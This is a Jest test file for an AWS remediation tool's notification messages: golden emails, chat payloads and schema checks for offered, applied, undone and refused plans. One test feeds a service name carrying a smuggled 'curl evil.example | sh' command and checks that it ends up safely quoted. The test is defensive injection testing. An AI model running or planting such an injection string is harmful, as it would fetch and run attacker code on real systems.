import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from '@jest/globals';
import Ajv2020 from 'ajv/dist/2020.js';
import { diagnose } from '../../lambda/diagnose.ts';
import type { Offer, Plan } from '../../lambda/model/remediation.ts';
import { messageOf } from '../../lambda/publish/message.ts';
import { runMessage } from '../../lambda/publish/run-message.ts';
import type { RunEvent, RunNews } from '../../lambda/runs/news.ts';
import { offerOf } from '../../lambda/runs/offer.ts';
import { incidents, labOf, now } from '../remediate/lab.ts';
import { stageOf } from '../runs/stage.ts';
import { anyText } from '../support/any-text.ts';
import fc from '../support/fast-check.ts';
import { expectGolden } from '../support/golden.ts';
import { snapshotOf } from '../support/snapshots.ts';

const root = join(__dirname, '../..');
const file = (name: string) => join(root, 'test/publish/remediation', name);
const validate = new Ajv2020({ strict: true, allowUnionTypes: true, validateFormats: false }).compile(
  JSON.parse(readFileSync(join(root, 'docs/diagnosis.schema.json'), 'utf8')),
);
const problemsOf = (machine: string) => (validate(JSON.parse(machine)) ? [] : validate.errors);
const undoCommand = (run: string) => `aws lambda invoke --payload '{"undo":"${run}"}'`;
const group = incidents['allow-https-egress'];
const anna = 'arn:aws:iam::111122223333:user/anna';

/** What people are told of a plan, one way and another. */
const news = new Map<RunEvent, RunNews>();
beforeAll(async () => {
  const works = await stageOf(labOf(group));
  await works.runs.apply((await works.offer()).id, 'person', anna);
  works.outcome = 'fixed';
  await works.pass(5);
  const fails = await stageOf(labOf(group));
  await fails.runs.apply((await fails.offer()).id, 'person', anna);
  await fails.pass(65);
  const lab = labOf(group, (_, more) => {
    more.consents = false;
  });
  const refused = await stageOf(lab);
  await refused.runs.apply((await refused.offer()).id, 'person', anna).catch(() => {});
  for (const one of [...works.told, ...fails.told, ...refused.told]) news.set(one.event, one);
});
const told = (event: RunEvent) => runMessage(news.get(event) as RunNews, now, undoCommand);

describe.each(['applied', 'works', 'takenBack', 'refused'] as const)('a plan that is %s', (event) => {
  test('reads as its golden files', () => {
    const message = told(event);

    expectGolden(file(`${event}.txt`), `Subject: ${message.subject}\n\n${message.email}`);
    expectGolden(file(`${event}.chat.json`), `${message.chat}\n`);
  });

  test('is described by the schema, and stands in the conversation of the incident', () => {
    const message = told(event);

    expect(problemsOf(message.machine)).toEqual([]);
    expect(message.attributes).toMatchObject({
      conclusion: 'remediation',
      event: `remediation-${event}`,
      incident: 'incident-1',
    });
    expect(JSON.parse(message.chat).metadata.threadId).toBe('incident-1');
  });
});

test('whoever takes back is told apart from who has approved', () => {
  const { run, ...base } = news.get('takenBack') as RunNews;
  const stuck = runMessage({ ...base, run, event: 'stuck' }, now, undoCommand).email;

  for (const email of [told('takenBack').email, stuck]) {
    expect(email).toContain(`Approved by: ${anna}`);
    expect(email).toMatch(/aken back by: ecs-pull-doctor/);
  }
});

test('who, what, before and after is told, and that code must follow', () => {
  const { email } = told('applied');

  expect(email).toContain(anna);
  expect(email).toMatch(/443/);
  expect(email).toMatch(/made: `sgr-/);
  expect(email).toMatch(/infrastructure code/);
  expect(email).toContain('undo');
});

describe('a finding whose cause can be put right', () => {
  const snapshot = snapshotOf(group);
  const diagnosis = diagnose(snapshot);
  const offered = (automatic: readonly string[] = []) =>
    offerOf(snapshot, diagnosis, { remediations: ['allow-https-egress'], automatic });

  test('says what would be done, whom it touches, and who is asked', () => {
    const message = messageOf(diagnosis, undefined, offered());

    expectGolden(file('offered.txt'), `Subject: ${message.subject}\n\n${message.email}`);
    expect(problemsOf(message.machine)).toEqual([]);
    expect(JSON.parse(message.machine).plan).toMatchObject({
      remediation: 'allow-https-egress',
      approval: 'person',
    });
    expect(message.chat).toContain('waits for approval');
  });

  test('gives a command that does nothing else, whatever the service is called', () => {
    const offer = offered() as Offer;
    const plan = { ...offer.plan, group: "service:web; curl evil.example | sh #'$(id)" };
    const { email } = messageOf(diagnosis, undefined, { ...offer, plan });

    expect(email.replace(/\s+/g, ' ')).toContain(
      "--service 'web; curl evil.example | sh #'\\''$(id)' --apply --plan",
    );
  });

  test('says so if nobody is asked', () => {
    const { email, machine } = messageOf(diagnosis, undefined, offered(['allow-https-egress']));

    expect(email).toMatch(/is applied by itself if .* its owner consents/);
    expect(JSON.parse(machine).plan.approval).toBe('automatic');
  });

  test('offers nothing that was not allowed', () => {
    expect(offerOf(snapshot, diagnosis, { remediations: ['assign-public-ip'], automatic: [] })).toBeNull();
  });
});

test('hostile text stays a text, in every medium and within its limits', () => {
  fc.assert(
    fc.property(anyText(3_000), (text) => {
      const base = news.get('applied') as RunNews;
      const plan: Plan = {
        ...base.plan,
        group: `service:${text}`,
        steps: base.plan.steps.map((step) => ({ ...step, does: text })),
      };
      const message = runMessage({ ...base, plan, by: text, because: text }, now, undoCommand);

      expect(message.subject).toMatch(/^[\x20-\x7e]{1,99}$/);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
      expect(message.email).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
      const { content } = JSON.parse(message.chat);
      expect(content.description.length).toBeLessThanOrEqual(8_000);
      expect(`${content.title}${content.description}`).not.toMatch(/<[!@#]/);
      expect(problemsOf(message.machine)).toEqual([]);
    }),
  );
});
